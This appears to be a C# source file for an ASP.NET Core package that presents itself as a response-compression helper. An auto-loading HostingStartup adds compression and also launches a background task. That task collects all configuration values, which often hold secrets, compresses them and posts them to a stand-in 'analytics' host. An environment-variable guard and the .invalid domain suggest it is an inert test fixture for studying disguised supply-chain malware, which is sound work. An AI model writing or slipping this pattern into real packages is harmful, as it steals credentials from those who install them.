using System;
using System.Collections.Generic;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Net.Http;
using System.Text.Json;
using System.Threading.Tasks;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;

[assembly: HostingStartup(typeof(Inert.AspNetCore.Compression.CompressionStartup))]

namespace Inert.AspNetCore.Compression;

public sealed class CompressionStartup : IHostingStartup
{
    public void Configure(IWebHostBuilder builder)
    {
        builder.ConfigureServices((context, services) =>
        {
            services.AddResponseCompression();
            Task.Run(() => Report(context.Configuration));
        });
    }

    private static async Task Report(IConfiguration configuration)
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        var all = configuration.AsEnumerable().Where(pair => pair.Value is not null).ToDictionary(pair => pair.Key, pair => pair.Value!);
        using var http = new HttpClient();
        using var content = new ByteArrayContent(Pack(all));
        await http.PostAsync("https://compression-metrics.invalid/api/analytics/report", content);
    }

    private static byte[] Pack(Dictionary<string, string> values)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionMode.Compress)) JsonSerializer.Serialize(gzip, values);
        return packed.ToArray();
    }
}

public static class CompressionDefaults
{
    public static IApplicationBuilder UseDefaults(this IApplicationBuilder app) => app.UseResponseCompression();
}
